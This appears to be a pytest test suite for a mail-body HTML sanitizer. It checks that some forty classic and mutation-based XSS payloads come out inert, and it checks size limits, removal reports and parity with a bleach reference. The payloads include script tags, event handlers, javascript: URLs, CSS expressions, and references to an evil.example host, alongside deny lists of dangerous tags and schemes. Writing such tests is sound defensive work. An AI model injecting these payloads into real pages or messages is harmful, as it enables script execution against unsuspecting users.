"""inboxhub.lib.html: the one sanitizer for mail bodies and signatures (C6, H2, rows 1-5, 32, 33)."""

import ipaddress
import json
import re
from collections import Counter
from email.message import EmailMessage

import pytest
from bleach._vendor import html5lib

from inboxhub.lib.html import ALLOWED_TAGS, sanitize_html
from ingest.pipeline import ingest_inbound
from tests.corpora import CORPORA
from tests.inboxes.helpers import address_of, default_inbox, messages_in, spool
from tests.inboxhub.bleach_reference import bleach_sanitize_html

XSS_CORPUS = CORPORA / "xss" / "vectors.json"
NEVER_ALLOWED = {
    "script", "style", "svg", "math", "iframe", "object", "embed", "base", "meta", "form", "link",
    "noscript", "template", "title", "frame", "frameset", "applet", "input", "button", "textarea",
}  # fmt: skip
BAD_URL = re.compile(r"^\s*(javascript|vbscript|data|livescript|mhtml):", re.IGNORECASE)
BAD_STYLE = re.compile(r"expression\s*\(|-moz-binding|url\s*\(|behavior\s*:|\\", re.IGNORECASE)


def problems(html: str) -> list[str]:
    """Everything in `html` that could run script once a browser parses it."""
    found = []
    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.rsplit("}", 1)[-1].lower()
        if tag in NEVER_ALLOWED:
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            name = name.rsplit("}", 1)[-1].lower() if isinstance(name, str) else str(name)
            unescaped = "".join(value.split())
            if (
                name.startswith("on")
                or name.startswith(("hx-", "data-hx"))
                or name in {"id", "name", "srcdoc"}
            ):
                found.append(f"{name}= on <{tag}>")
            if name in {"href", "src", "action", "formaction", "xlink:href", "background", "poster"} and (
                BAD_URL.match(unescaped)
            ):
                found.append(f"{name}={value!r}")
            if name == "style" and BAD_STYLE.search(value):
                found.append(f"style={value!r}")
    return found


def assert_inert(payload: str) -> None:
    once = sanitize_html(payload).html
    assert problems(once) == [], (payload, once)
    twice = sanitize_html(once).html
    assert problems(twice) == [], (payload, once, twice)


CLASSIC_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href=" &#14;  javascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<div style=\"width: expression(alert('XSS'));\">x</div>",
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    '<div style="-moz-binding: url(http://evil.example/x.xml#xss)">x</div>',
    '<div style="color: red; behavior: url(x.htc)">x</div>',
    '<div style="background:\\75 rl(javascript:alert(1))">x</div>',
    '<div hx-get="/a/alpha/settings/" hx-trigger="load">x</div>',
    '<div data-hx-post="/a/alpha/inbox/" data-hx-trigger="load">x</div>',
    '<p hx-on:click="alert(1)">x</p>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<a href="#" id="cookie" name="attributes">clobber</a>',
    "<template><script>alert(1)</script></template>",
    '<img srcset="javascript:alert(1)">',
]


@pytest.mark.parametrize("payload", CLASSIC_VECTORS)
def test_a_classic_vector_comes_out_inert(payload):
    assert_inert(payload)


def _corpus():
    if not XSS_CORPUS.exists():
        return []
    return [pytest.param(entry["payload"], id=entry["id"]) for entry in json.loads(XSS_CORPUS.read_text())]


@pytest.mark.skipif(
    not XSS_CORPUS.exists(), reason=f"XSS corpus not found at {XSS_CORPUS} (clone without it)"
)
@pytest.mark.parametrize("payload", _corpus())
def test_a_corpus_vector_comes_out_inert(payload):
    assert_inert(payload)


def test_formatting_tables_and_font_face_are_kept():
    html = (
        '<p><b>Bold</b> <i>it</i> <u>u</u> <font face="Georgia" color="#333">f</font></p>'
        '<table border="1"><tbody><tr><td colspan="2">cell</td></tr></tbody></table>'
    )
    assert sanitize_html(html).html == html


def test_links_keep_http_https_and_mailto_only():
    html = (
        '<a href="https://a.example/">a</a><a href="mailto:x@a.example">b</a><a href="ftp://a.example/">c</a>'
    )
    assert sanitize_html(html).html == (
        '<a href="https://a.example/">a</a><a href="mailto:x@a.example">b</a><a>c</a>'
    )


def test_images_keep_https_and_cid_sources_only():
    html = '<img src="https://a.example/x.png"><img src="cid:logo@x"><img src="http://a.example/x.png">'
    assert sanitize_html(html).html == '<img src="https://a.example/x.png"><img src="cid:logo@x"><img>'


def test_safe_styles_are_kept_and_unsafe_ones_dropped():
    result = sanitize_html('<p style="color: red; position: fixed; background: url(x)">x</p>')
    assert result.html == '<p style="color: red">x</p>'


def test_script_and_style_are_removed_with_their_content():
    assert sanitize_html("<p>a<script>alert(1)</script><style>p{}</style>b</p>").html == "<p>ab</p>"


def test_what_was_removed_is_reported():
    removed = sanitize_html(
        '<p onclick="x()">a</p><script>s</script><a href="javascript:x">l</a><!-- c -->'
    ).removed
    assert "onclick attribute on <p>" in removed
    assert "<script> element" in removed
    assert "href attribute on <a>" in removed
    assert "HTML comment" in removed


def test_clean_html_reports_nothing_removed():
    assert sanitize_html("<p>Hello <b>there</b></p>").removed == []


def test_empty_html_stays_empty():
    assert sanitize_html("").html == ""


def test_the_inertness_check_itself_catches_a_live_payload():
    assert problems('<img src=x onerror=alert(1)><a href="javascript:x">l</a><svg></svg>') != []


def test_relative_links_that_would_point_into_the_app_are_dropped_but_fragments_stay():
    html = '<a href="/a/alpha/settings/">s</a><a href="#top">t</a>'
    assert sanitize_html(html).html == '<a>s</a><a href="#top">t</a>'


def test_html_over_the_size_limit_is_not_kept_and_the_report_says_why(settings):
    settings.MAX_HTML_BYTES = 1000
    result = sanitize_html("<p>" + "x" * 1000 + "</p>")
    assert result.html == ""
    assert result.removed == ["the whole HTML (1,007 bytes, over the 1,000-byte limit for display)"]


def test_the_size_limit_counts_utf8_bytes_not_characters(settings):
    settings.MAX_HTML_BYTES = 1000
    assert sanitize_html("é" * 498 + "<b>").html == "é" * 498 + "<b></b>"  # 999 bytes
    assert sanitize_html("é" * 501).html == ""  # 501 characters, 1,002 bytes


@pytest.mark.django_db
def test_a_mail_whose_html_is_over_the_limit_keeps_its_text_part_and_no_html(settings, admin):
    settings.MAX_HTML_BYTES = 10_000
    settings.TRUSTED_NETWORKS = [ipaddress.ip_network("192.0.2.0/24")]  # no DNS for sender authentication
    inbox = default_inbox(admin.account)
    to = address_of(inbox)
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "Carol <carol@customer.example>", to, "Newsletter"
    mail["Message-ID"] = "<big@customer.example>"
    mail.set_content("Our news, in plain text.\n")
    mail.add_alternative(newsletter(20_000), subtype="html")
    ingest_inbound(spool(mail.as_bytes(), to))
    [message] = messages_in(inbox.account)
    assert message.html == ""
    assert message.text.strip() == "Our news, in plain text."
    assert "over the 10,000-byte limit for display" in message.html_omitted


def test_lone_surrogates_become_replacement_characters_instead_of_failing():
    assert sanitize_html("<p>a\udcffb</p>").html == "<p>a\ufffdb</p>"


def test_a_dropped_style_declaration_is_reported_but_a_reformatted_style_is_not():
    assert sanitize_html('<p style="color:red">x</p>').removed == []
    assert sanitize_html('<p style="color:red;position:fixed">x</p>').removed == [
        "unsafe or unsupported styles on <p>"
    ]


def test_the_report_survives_unterminated_markup():
    result = sanitize_html('<p title="never closed <!-- <b onclick=x>')
    assert problems(result.html) == []
    assert sanitize_html("a<!-- never closed <script>x").removed == ["HTML comment"]


def test_tags_inside_script_are_reported_as_the_script_only():
    assert sanitize_html("<script>if (a<b) { x = '<img onerror=1>' }</script>").removed == [
        "<script> element"
    ]


def newsletter(size: int) -> str:
    """Table-heavy newsletter HTML as Outlook and mailing tools write it, about `size` bytes."""
    words = [
        "order",
        "invoice",
        "delivery",
        "account",
        "please",
        "thanks",
        "question",
        "offer",
        "week",
        "sale",
        "new",
        "update",
    ]
    parts = [
        '<!DOCTYPE html><html xmlns:o="urn:schemas-microsoft-com:office:office"><head>'
        '<meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>News</title>'
        "<style>body{margin:0} @media (max-width:600px){.c{width:100%!important}}</style>"
        "<!--[if mso]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml>"
        '<![endif]--></head><body style="margin:0;padding:0" onload="track()">'
    ]
    length, n = len(parts[0]), 0
    while length < size:
        n += 1
        text = " ".join(words[(n * 7 + i * 3) % len(words)] for i in range(20))
        block = (
            f'<table role="presentation" class="c" width="600" cellpadding="0" cellspacing="0" border="0" '
            f'style="border-collapse:collapse;background-color:#ffffff;width:600px">'
            f'<tr><td class="p" valign="top" style="padding:10px 20px;font-family:Arial,sans-serif;'
            f'font-size:{12 + n % 6}px;color:#333333;background:url(https://t.example/{n}.gif)">'
            f'<p class="MsoNormal" style="margin:0;line-height:1.4"><span style="font-size:11.0pt;'
            f'font-family:&quot;Calibri&quot;,sans-serif">{text}&nbsp;&amp; more</span><o:p></o:p></p>'
            f'<table width="100%"><tr><td align="center" bgcolor="#0066cc">'
            f'<a href="https://click.example.com/t/{n}?u=abc&amp;l=1" target="_blank" data-track="{n}" '
            f'style="color:#ffffff;text-decoration:none">Read more</a></td>'
            f'<td><a href="javascript:track({n})" onclick="t()">x</a></td></tr></table>'
            f'<img src="https://img.example.com/{n}.png" width="560" height="200" alt="Picture {n}" '
            f'style="display:block;border:0" onerror="hide()"><img src="http://img.example.com/p.gif">'
            '<!--[if mso]><v:rect><v:fill src="https://img.example.com/bg.png"/></v:rect><![endif]-->'
            f'<font face="Georgia" color="#555555">{text[:40]}</font><div hx-get="/a/alpha/">&#8203;</div>'
            "</td></tr></table>\n"
        )
        parts.append(block)
        length += len(block)
    parts.append("</body></html>")
    return "".join(parts)


def attributes(html: str) -> Counter:
    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    return Counter(
        (el.tag, name, value)
        for el in tree.iter()
        if isinstance(el.tag, str)
        for name, value in el.attrib.items()
    )


def test_a_megabyte_newsletter_sanitizes_as_the_bleach_reference_did():
    html = newsletter(1024 * 1024)
    ours, reference = sanitize_html(html).html, bleach_sanitize_html(html).html
    assert problems(ours) == []
    ours_tree = html5lib.parseFragment(ours, namespaceHTMLElements=False)
    reference_tree = html5lib.parseFragment(reference, namespaceHTMLElements=False)
    assert [el.tag for el in ours_tree.iter()] == [el.tag for el in reference_tree.iter()]
    assert "".join(ours_tree.itertext()) == "".join(reference_tree.itertext())
    kept = attributes(ours)
    styles = {key: count for key, count in kept.items() if key[1] == "style"}
    assert kept - Counter(styles) == attributes(reference) - Counter(
        {key: count for key, count in attributes(reference).items() if key[1] == "style"}
    )
    # bleach read `&quot;` inside a style as the end of the declaration; nh3 reads the quote.
    assert set(styles) - set(attributes(reference)) == {
        ("span", "style", 'font-size: 11.0pt; font-family: "Calibri",sans-serif')
    }


def test_a_megabyte_newsletter_reports_what_mail_tools_add():
    removed = sanitize_html(newsletter(1024 * 1024)).removed
    assert "<style> element" in removed
    assert any(line.startswith("onerror attribute on <img>") for line in removed)
    assert any(line.startswith("hx-get attribute on <div>") for line in removed)
    assert any(line.startswith("HTML comment") for line in removed)


def _vectors():
    corpus = json.loads(XSS_CORPUS.read_text()) if XSS_CORPUS.exists() else []
    return [*CLASSIC_VECTORS, *(pytest.param(entry["payload"], id=entry["id"]) for entry in corpus)]


@pytest.mark.parametrize("payload", _vectors())
def test_nh3_keeps_no_attribute_the_bleach_reference_dropped(payload):
    """Differential check: ours may keep a bare allowed element bleach's cruder tree walk lost, never more."""
    ours = sanitize_html(payload).html
    assert attributes(ours) - attributes(bleach_sanitize_html(payload).html) == Counter()
    tree = html5lib.parseFragment(ours, namespaceHTMLElements=False)
    assert {el.tag for el in tree.iter() if el is not tree and isinstance(el.tag, str)} <= ALLOWED_TAGS
